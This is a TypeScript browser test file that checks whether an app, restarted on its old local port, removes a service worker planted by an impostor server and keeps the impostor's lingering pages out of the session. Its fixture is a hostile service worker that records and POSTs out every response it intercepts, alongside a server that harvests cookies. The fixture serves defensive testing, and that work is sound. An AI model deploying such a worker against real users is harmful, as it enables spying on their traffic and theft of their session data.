import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { rm } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { newDataDirectory, startHost, type RunningHost } from '../host-process.ts';
import { openApp, settled, type AppBrowser } from './browser.ts';

/** What a program may leave in a browser: a worker that notes all that it sees and can read, and passes it on. */
const worker = `
const note = async (text) => (await caches.open('seen')).put('/seen/' + encodeURIComponent(text), new Response(''));
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  event.respondWith((async () => {
    const response = await fetch(event.request);
    const text = response.type === 'opaqueredirect' ? '' : await response.clone().text();
    await note('ADDRESS ' + event.request.url + ' READ ' + response.url + text.slice(0, 20000));
    fetch('/told?' + encodeURIComponent(event.request.url), { method: 'POST', body: text }).catch(() => null);
    return response;
  })());
});
`;

const page = '<!doctype html><title>Impostor</title><h1>Impostor</h1>';

/** Another program at an address, as long as it has it. It answers what the host would be asked for with lasting code of its own. */
async function impostor(address: string, port: number): Promise<Server & { readonly cookies: Set<string> }> {
  const cookies = new Set<string>();
  const server = createServer((request, response) => {
    for (const cookie of request.headers.cookie?.split('; ') ?? []) cookies.add(cookie);
    const isWorker = request.url === '/worker.js';
    const isScript = isWorker || request.url?.startsWith('/assets/') === true;
    response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
    response.setHeader('Cache-Control', isScript && !isWorker ? 'max-age=31536000, immutable' : 'no-store');
    response.end(isWorker ? worker : isScript ? 'document.title = "Code of another"' : page);
  }).listen(port, address);
  await once(server, 'listening');
  return Object.assign(server, { cookies });
}

async function stop(server: Server): Promise<void> {
  server.close().closeAllConnections();
  await once(server, 'close');
}

const register = `navigator.serviceWorker.register('/worker.js', { scope: '/' }).then(() => new Promise((resolve) => {
  if (navigator.serviceWorker.controller) resolve(null);
  else navigator.serviceWorker.addEventListener('controllerchange', () => resolve(null));
}))`;

const seen = `caches.open('seen').then((cache) => cache.keys())
  .then((keys) => keys.map((key) => decodeURIComponent(new URL(key.url).pathname.slice('/seen/'.length))))`;

const registrations = 'navigator.serviceWorker.getRegistrations().then((all) => all.length)';

interface Scene {
  readonly app: AppBrowser;
  readonly host: RunningHost;
  readonly address: string;
  readonly start: () => Promise<RunningHost>;
}

/** A browser that was let in once, and its host. */
async function scene(): Promise<Scene> {
  const dataDirectory = await newDataDirectory();
  onTestFinished(() => rm(dataDirectory, { recursive: true, force: true }));
  const start = async (): Promise<RunningHost> => {
    const started = await startHost({ here: true, dataDirectory });
    onTestFinished(async () => void (await started.stop().catch(() => null)));
    return started;
  };
  const host = await start();
  const app = await openApp(host);
  onTestFinished(() => app.close());
  return { app, host, start, address: new URL(app.origin).hostname };
}

const isIn = async (tab: Page, name: string): Promise<void> => {
  await tab.getByRole('heading', { name, level: 1 }).waitFor();
  await settled(tab);
};

describe('a program of another user has the address of the pages while no host runs', () => {
  test('its worker and what it stored are taken out before the first document, and a page of it that stays open comes in with nobody', async () => {
    const { app, host, address, start } = await scene();
    const script = await app.page.evaluate<string>('document.querySelector("script[src]").src');
    const { appPort } = host;
    await host.stop();
    await app.page.close();
    const first = await impostor(address, appPort);
    const tab = await app.newTab();
    await tab.goto(`${app.origin}/`);
    await tab.evaluate(register);
    await tab.goto(`${app.origin}/watched`);
    await tab.evaluate(`fetch(${JSON.stringify(script)}).then((response) => response.text())`);
    await expect.poll(() => tab.evaluate<readonly string[]>(seen).then((all) => all.join())).toContain('/watched');
    await stop(first);

    const again = await start();
    expect(again.appPort).toBe(appPort);
    await tab.goto(`${app.origin}/activity`);
    await isIn(tab, 'Activity');
    expect(await tab.evaluate(registrations)).toBe(0);
    expect(await tab.title()).not.toContain('Code of another');
    expect(await tab.evaluate<readonly string[]>(seen)).toEqual([]);
    await again.stop();

    // The other program comes back for what its worker may have noted or sent.
    const back = await impostor(address, appPort);
    await tab.goto(`${app.origin}/back`);
    expect(await tab.evaluate<readonly string[]>(seen)).toEqual([]);
    await stop(back);

    // A page of it stays open, and comes in with nobody: neither by its own requests nor by a window that it opens.
    expect((await start()).appPort).toBe(appPort);
    const [opened] = await Promise.all([
      app.context.waitForEvent('page'),
      tab.evaluate('void (window.held = window.open("/data"))'),
    ]);
    await isIn(opened, 'Data');
    expect(new URL(opened.url()).origin).toBe(app.origin);
    expect(await tab.evaluate('window.held.closed')).toBe(true);
    const second = tab.evaluate('window.second = window.open("/app/v1/session/enter?to=/data"); null');
    const [other] = await Promise.all([app.context.waitForEvent('page'), second]);
    await isIn(other, 'Data');
    expect(await tab.evaluate('window.second.closed')).toBe(true);

    // The browser is in by now, and its cookie goes along with all that this page asks.
    const answers = await tab.evaluate<readonly string[]>(`Promise.all([
      fetch('/app/v1/actions/readSettings', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
      fetch('/app/v1/session/enter?to=/', { redirect: 'manual' }),
      fetch('/data'),
    ].map((asked) => asked.then(async (response) => response.status + ' ' + (await response.text()), String)))`);
    expect(answers[0]).toMatch(/^401 .*session_ended/);
    expect(answers[1]).toMatch(/^401 /);
    expect(answers[2]).toMatch(/^200 /);
    expect(answers.join()).not.toMatch(/name="vitalgate-session"|[?&]in=/);
    // A window that is opened now has a document at once, without a secret, and is lost when it comes in.
    const [third] = await Promise.all([
      app.context.waitForEvent('page'),
      tab.evaluate('void (window.third = window.open("/activity"))'),
    ]);
    await isIn(third, 'Activity');
    expect(await tab.evaluate('window.third.closed')).toBe(true);
  }, 90_000);
});
